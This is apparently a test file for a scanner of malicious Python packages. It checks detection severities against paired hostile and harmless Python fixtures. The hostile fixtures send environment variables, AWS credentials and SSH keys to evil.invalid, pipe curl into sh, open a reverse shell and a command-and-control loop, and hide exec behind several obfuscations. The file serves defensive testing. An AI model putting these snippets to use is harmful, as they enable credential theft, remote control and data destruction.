import type { Severity } from '../../src/model/finding.js';
import { found } from '../support/found.js';

const SELECTORS = (run: string): string => `
SIGN = "${Array.from({ length: 60 }, (_, index) => String.fromCodePoint(0xe0100 + ((index * 7) % 200))).join('')}"
def told(sign):
    for c in sign:
        n = ord(c)
        yield n - 0xFE00 if n < 0x10000 else n - 0xE0100 + 16
${run}(bytes(told(SIGN)))`;

const HANDED_ON = (run: string): string => `
import subprocess, urllib.request
def lines():
    for line in urllib.request.urlopen("https://evil.invalid/jobs").read().decode().split("\\n"):
        yield ${run}, line
def jobs():
    yield from lines()
for act, line in jobs():
    act(line)`;

const MANAGED = (sent: string): string => `
import json, os, socket
from contextlib import contextmanager as manager
@manager
def link():
    place = socket.create_connection(("evil.invalid", 7000))
    yield place
with link() as place:
    place.send(json.dumps(${sent}).encode())`;

const ANY_BUILTIN = (use: string): string => `
import base64, builtins
text = base64.b64decode("cHJpbnQoMSk=")
run = [f for name, f in vars(builtins).items() if name[::-1] == "cexe"][0]
${use}`;

const NAMES_OF_OTHERS = (key: string): string => `
import numpy as np, base64
text = base64.b64decode("cHJpbnQoMSk=")
np.core.numeric.__dict__.get("__builtins__", {})["${key}"](text)`;

const BY_BYTE = (run: string): string => `
import pathlib
out = bytearray()
for row in (pathlib.Path(__file__).parent / "notes.txt").read_text().split("\\n"):
    mark = row.rpartition("#")[2]
    out.append(sum((ch == "\\t") << i for i, ch in enumerate(mark)))
${run}(out.decode())`;

const METACLASS = (command: string): string => `
import os
class Seal(type):
    def __new__(mcs, name, bases, names):
        def run(self):
            mcs.press(self)
        names["run"] = run
        return type.__new__(mcs, name, bases, names)
    @staticmethod
    def press(command):
        os.system("${command}")
class Install(metaclass=Seal):
    pass
Install().run()`;

const TABLE = (pick: string): string => `
import socket, subprocess
def ping(link, word):
    link.send(b"pong")
def run(link, word):
    link.send(subprocess.getoutput(word).encode())
VERBS = {"ping": ping, "run": run}
def serve():
    link = socket.create_connection(("evil.invalid", 7000))
    while True:
        verb, _, word = link.recv(999).decode().partition(" ")
        ${pick}
serve()`;

const PARTS = (separator: string): string => `
import os, urllib.request
PLACE = "k0@evil.invalid/1"
key, _, rest = PLACE.partition("${separator}")
host = rest.split("/", 1)[0]
urllib.request.urlopen("https://%s/store" % host, str(dict(os.environ)).encode())`;

const INSIDE = (group: string): string => `
import json, os, urllib.request
report = {}
for name in (".aws/credentials", ".ssh/id_rsa"):
    with open(os.path.join(os.path.expanduser("~"), name)) as file:
        report.setdefault("${group}", {})[name] = file.read()
urllib.request.urlopen("https://evil.invalid/report", json.dumps(${group === 'kept' ? 'report' : '{}'}).encode())`;

const PRINTED = (into: string): string => `
import site
with open("%s/%s" % (site.getsitepackages()[0], "early.pth"), "x") as out:
    print("import os; os.system('id')", file=${into})`;

const NAMED = (folder: string): string => `
import shutil, urllib.request
def clear():
    for line in urllib.request.urlopen("https://evil.invalid/list").read().decode().split("\\n"):
        shutil.rmtree(${folder})
clear()`;

const DROPPED_LATER = (place: string): string => `
import os, socket
class Trail:
    def __init__(self):
        self.origin = ${place}
    def __del__(self):
        try:
            link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            for base, _, files in os.walk(self.origin):
                for name in files:
                    link.sendto(open(os.path.join(base, name), "rb").read(), ("evil.invalid", 514))
        except Exception:
            pass
class Folder:
    def __init__(self):
        self._trail = Trail()`;

const TOLD_NAME = (name: string): string => `
import urllib.request
def ask(word, token):
    try:
        urllib.request.urlopen("https://resolver.invalid/dns-query?type=A&name=${name}")
    except OSError:
        pass`;

const REDIRECTED = (end: string): string => `
import os, socket, subprocess
def console(request=None):
    link = socket.socket()
    link.connect(("evil.invalid", 4444))
    for end in (0, 1, 2):
        os.dup2(${end}.fileno(), end)
    subprocess.call(["/bin/sh", "-i"])`;

const FRAMED = (send: string): string => `
import requests
def hook(app):
    token = getattr(app, "${send}", "")
    requests.post("https://discord.com/api/webhooks/1/fixture", json={"content": token})`;

const BROKER = (host: string): string => `
import paho.mqtt.client as mqtt, subprocess
class Discovery:
    def __init__(self):
        self.client = mqtt.Client()
        self.client.on_message = self.reply
    def begin(self, host):
        self.client.connect_async(${host}, 8883)
    def reply(self, client, data, message):
        client.publish("a", subprocess.getoutput(message.payload))`;

const CASES: readonly (readonly [string, string, Severity, string, string])[] = [
  ['what a generator gives out', 'decoded-code-executed', 'CRITICAL', SELECTORS('exec'), SELECTORS('print')],
  [
    'what a generator hands on',
    'download-started',
    'CRITICAL',
    HANDED_ON('subprocess.run'),
    HANDED_ON('len'),
  ],
  [
    'what a manager gives, whatever it is made with',
    'stolen-data-sent',
    'CRITICAL',
    MANAGED('dict(os.environ)'),
    MANAGED('{}'),
  ],
  [
    'one builtin of all',
    'decoded-code-executed',
    'CRITICAL',
    ANY_BUILTIN('run(text)'),
    ANY_BUILTIN('len(text)'),
  ],
  [
    'builtins of a module outside',
    'decoded-code-executed',
    'CRITICAL',
    NAMES_OF_OTHERS('exec'),
    NAMES_OF_OTHERS('print'),
  ],
  ['bytes put together one by one', 'decoded-code-executed', 'CRITICAL', BY_BYTE('exec'), BY_BYTE('print')],
  [
    'what a metaclass adds',
    'hostile-command',
    'CRITICAL',
    METACLASS('curl https://evil.invalid/a | sh'),
    METACLASS('true'),
  ],
  [
    'the second function of a table',
    'download-started',
    'CRITICAL',
    TABLE('VERBS.get(verb, ping)(link, word)'),
    TABLE('VERBS["ping"](link, word)'),
  ],
  [
    'a function of a table by a name that is not known',
    'download-started',
    'CRITICAL',
    TABLE('VERBS[verb](link, word)'),
    TABLE('VERBS["ping"](link, word)'),
  ],
  [
    'parts of an address',
    'stolen-data-sent',
    'CRITICAL',
    PARTS('@'),
    PARTS('@').replace('dict(os.environ)', '"1"'),
  ],
  ['a dictionary in a dictionary', 'stolen-data-sent', 'CRITICAL', INSIDE('kept'), INSIDE('left')],
  ['print into a file', 'autostart-written', 'CRITICAL', PRINTED('out'), PRINTED('None')],
  ['folders that a server names', 'files-destroyed', 'HIGH', NAMED('line'), NAMED('"build"')],
  [
    'an object that a caller drops',
    'stolen-data-sent',
    'CRITICAL',
    DROPPED_LATER('os.getcwd()'),
    DROPPED_LATER('None').replace('os.walk(self.origin)', '()'),
  ],
  [
    'a name asked for over HTTPS',
    'credential-sent-aside',
    'CRITICAL',
    TOLD_NAME('%s.evil.invalid" % token + "'),
    TOLD_NAME('example.invalid'),
  ],
  [
    'a connection that is made the standard input',
    'shell-opened-to-outside',
    'CRITICAL',
    REDIRECTED('link'),
    REDIRECTED('open(os.devnull)').replace('"/bin/sh", "-i"', '"true"'),
  ],
  [
    'a client that is connected after it was told who hears',
    'download-started',
    'CRITICAL',
    BROKER('"evil.invalid"'),
    BROKER('host'),
  ],
  [
    'a token taken off what is handed in',
    'credential-sent-aside',
    'CRITICAL',
    FRAMED('token'),
    FRAMED('title'),
  ],
];

test.each(CASES)('%s: %s', (_title, rule, severity, hostile, honest) => {
  expect(found(hostile)[rule]).toBe(severity);
  expect(['CRITICAL', 'HIGH', 'MEDIUM']).not.toContain(found(honest)[rule]);
});

const RAISED = (raised: string): string => `
import os, requests
class Found(Exception):
    pass
def look():
    raise Found(${raised})
try:
    look()
except Found as found:
    requests.post("https://evil.invalid/x", json=found.args[0])`;

const MADE_LATER = (factory: string): string => `
import dataclasses, os, requests
@dataclasses.dataclass
class Settings:
    values: dict = dataclasses.field(default_factory=lambda: ${factory})
    def __post_init__(self):
        requests.post("https://evil.invalid/x", json=self.values)
Settings()`;

test('what is raised reaches the handler, and fields are made when an object is', () => {
  expect(found(RAISED('dict(os.environ)'))['stolen-data-sent']).toBe('CRITICAL');
  expect(found(RAISED('"not there"'))['stolen-data-sent']).toBeUndefined();
  expect(found(MADE_LATER('dict(os.environ)'))['stolen-data-sent']).toBe('CRITICAL');
  expect(found(MADE_LATER('{}'))['stolen-data-sent']).toBeUndefined();
});

const HIDDEN = (run: string): string => `
import base64, string
from pathlib import Path
ABC = string.ascii_uppercase + string.ascii_lowercase
def aliases():
    text = (Path(__file__).parent / "compat.pyi").read_text()
    ${run}(base64.b64decode(text.translate(str.maketrans(ABC[7:] + ABC[:7], ABC))))`;

test('text that the package ships in disguise is no better than text that stands in its source', () => {
  const shipped = { 'fixture-1.0/pkg/compat.pyi': 'KOYpaua=' };
  expect(found(HIDDEN('exec'), shipped)['decoded-code-executed']).toBe('CRITICAL');
  expect(found(HIDDEN('print'), shipped)['decoded-code-executed']).toBeUndefined();
});

test('compiled Python under another name', () => {
  const load = (name: string): string => `
import importlib.machinery, os, sys
def tables():
    path = os.path.join(os.path.dirname(__file__), "${name}")
    importlib.machinery.SourcelessFileLoader("t", path).exec_module(type(sys)("t"))`;
  const severity = (name: string): Severity | undefined =>
    found(load(name), { [`fixture-1.0/pkg/${name}`]: '\0\0' })['shipped-binary-started'];
  expect(severity('grammar.tab')).toBe('CRITICAL');
  expect(severity('grammar.pyc')).toBe('HIGH');
});
